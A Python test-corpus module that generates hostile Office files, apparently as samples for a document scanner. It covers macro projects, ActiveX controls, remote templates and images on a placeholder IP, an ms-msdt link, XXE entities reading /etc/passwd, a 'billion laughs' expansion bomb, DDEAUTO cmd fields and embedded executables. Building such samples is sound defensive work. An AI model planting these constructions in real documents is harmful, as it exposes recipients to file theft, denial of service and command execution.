"""What an Office file can carry that it should not."""

from collections.abc import Iterator

from tests.corpus.parts import (
    HEAD,
    MAIN_PART,
    SHEET,
    WORD,
    Sample,
    main_words,
    office,
    office_parts,
    zip_of,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
MACRO_MAIN = {
    "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
}
VBA = "application/vnd.ms-office.vbaProject"
ENTITY = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM '
    '"file:///etc/passwd">]>'
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">'
        for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><x>&i;</x>"
)


def of_each_kind(kind: str) -> Iterator[Sample]:
    part = MAIN_PART[kind][0]
    folder = part.partition("/")[0]

    def sample(what: str, code: str, **more) -> Sample:
        return Sample(f"{what}.{kind}", office(kind, **more), code)

    yield sample("宏", "macros", parts={f"{folder}/vbaProject.bin": OLE})
    yield sample("宏类型", "macros", main=MACRO_MAIN[kind])
    yield sample(
        "改名宏",
        "macros",
        types={f"/{folder}/data.bin": VBA},
        parts={f"{folder}/data.bin": OLE},
    )
    yield sample(
        "关系宏",
        "macros",
        rels=[
            (
                "http://schemas.microsoft.com/office/2006/relationships/"
                "vbaProject",
                "data.bin",
            )
        ],
    )
    yield sample(
        "控件", "controls", parts={f"{folder}/activeX/activeX1.xml": b"<a/>"}
    )
    yield sample("控件关系", "controls", rels=[("control", "c1.xml")])
    yield sample(
        "OLE", "ole_object", parts={f"{folder}/embeddings/oleObject1.bin": OLE}
    )
    yield sample(
        "外部OLE",
        "outside_content",
        rels=[("oleObject", "http://203.0.113.5/x.bin", True)],
    )
    yield sample(
        "外部图片",
        "outside_content",
        rels=[("image", "https://203.0.113.5/track.png", True)],
    )
    yield sample(
        "共享图片",
        "outside_content",
        rels=[("image", "file:////203.0.113.5/s/x.png", True)],
    )
    yield sample(
        "危险链接",
        "outside_content",
        rels=[("hyperlink", "ms-msdt:/id PCWDiagnostic", True)],
    )
    yield sample("实体", "xml_entities", body=f"{ENTITY}<x>&e;</x>".encode())
    yield sample(
        "实体16",
        "xml_entities",
        body=(ENTITY.replace("?>", ' encoding="UTF-16"?>', 1) + "<x/>").encode(
            "utf-16"
        ),
    )
    yield sample("膨胀", "xml_entities", body=LAUGHS.encode())
    parts = office_parts(kind)
    for name, told in {
        "[Content_Types].xml": "类型",
        "_rels/.rels": "关系",
        "docProps/app.xml": "属性",
    }.items():
        changed = {**parts, name: f"{ENTITY}<x>&e;</x>".encode()}
        yield Sample(f"实体-{told}.{kind}", zip_of(changed), "xml_entities")
    yield sample("坏XML", "damaged", body=b"<a><b></a>")
    for name in ("payload.exe", "payload.js", "payload.html", "payload.rtf"):
        yield sample(
            f"夹带{name[-4:]}",
            "program_inside",
            parts={f"{folder}/media/{name}": b"x"},
        )
    yield sample(
        "夹带程序图片",
        "program_inside",
        parts={f"{folder}/media/image1.png": b"MZ\x90\0" + b"\0" * 60},
    )
    yield sample(
        "嵌宏表",
        "macros",
        parts={
            f"{folder}/embeddings/表.xlsx": office(
                "xlsx", parts={"xl/vbaProject.bin": OLE}
            )
        },
    )
    yield Sample(f"加密.{kind}", encrypted(), "encrypted")
    yield Sample(f"旧版.{kind}", OLE + b"\0" * 4096, "old_office")


def encrypted() -> bytes:
    """What a password makes of it: an OLE container with this stream."""
    return OLE + b"\0" * 1100 + "EncryptedPackage".encode("utf-16-le") * 2


def words() -> Iterator[Sample]:
    """Of texts: templates and fields."""
    for what, target in {
        "远程模板": "http://203.0.113.5/t.dotm",
        "共享模板": "\\\\203.0.113.5\\t\\t.dotm",
        "文件模板": "file://203.0.113.5/t.dotm",
        "FTP模板": "ftp://203.0.113.5/t.dotm",
    }.items():
        yield Sample(
            f"{what}.docx",
            office("docx", rels=[("attachedTemplate", target, True)]),
            "outside_content",
        )
    for what, rel in {"框架": "frame", "子文档": "subDocument"}.items():
        yield Sample(
            f"{what}.docx",
            office("docx", rels=[(rel, "http://203.0.113.5/a", True)]),
            "outside_content",
        )
    for what, field in {
        "DDE": "<w:instrText>DDEAUTO c:\\\\windows cmd</w:instrText>",
        "DDE拆开": "<w:instrText>D</w:instrText></w:r><w:r>"
        "<w:instrText>DEAUTO x</w:instrText>",
    }.items():
        body = (
            f'{HEAD}<w:document xmlns:w="{WORD}"><w:body><w:p><w:r>{field}'
            "</w:r></w:p></w:body></w:document>"
        )
        yield Sample(
            f"{what}.docx",
            office("docx", body=body.encode()),
            "outside_content",
        )
    simple = (
        f'{HEAD}<w:document xmlns:w="{WORD}"><w:body><w:p>'
        '<w:fldSimple w:instr="DDE excel x"/></w:p></w:body></w:document>'
    )
    yield Sample(
        "DDE简式.docx", office("docx", body=simple.encode()), "outside_content"
    )
    header = {
        "word/header1.xml": simple.replace("document>", "hdr>")
        .replace("<w:document", "<w:hdr")
        .encode()
    }
    yield Sample(
        "DDE页眉.docx", office("docx", parts=header), "outside_content"
    )


def sheets() -> Iterator[Sample]:
    """Of tables: old macros and links to programs."""
    yield Sample(
        "宏表.xlsx",
        office("xlsx", parts={"xl/macrosheets/sheet1.xml": b"<a/>"}),
        "macros",
    )
    for tag in ("ddeLink", "oleLink"):
        link = (
            f'{HEAD}<externalLink xmlns="{SHEET}"><{tag} ddeService="cmd" '
            'ddeTopic="/c calc"/></externalLink>'
        )
        part = {"xl/externalLinks/externalLink1.xml": link.encode()}
        yield Sample(
            f"{tag}.xlsx", office("xlsx", parts=part), "outside_content"
        )
    yield Sample(
        "远程工作簿.xlsx",
        office(
            "xlsx",
            rels=[("externalLinkPath", "https://203.0.113.5/b.xlsx", True)],
        ),
        "outside_content",
    )
    yield Sample(
        "嵌套过深.xlsx",
        office("xlsx", parts={"xl/embeddings/a.xlsx": deep(3)}),
        "nested",
    )


def deep(levels: int) -> bytes:
    content = zip_of(office_parts("xlsx", body=main_words("xlsx")))
    for _ in range(levels):
        content = office("xlsx", parts={"xl/embeddings/a.xlsx": content})
    return content


def samples() -> Iterator[Sample]:
    """Every hostile Office file."""
    for kind in MAIN_PART:
        yield from of_each_kind(kind)
    yield from words()
    yield from sheets()
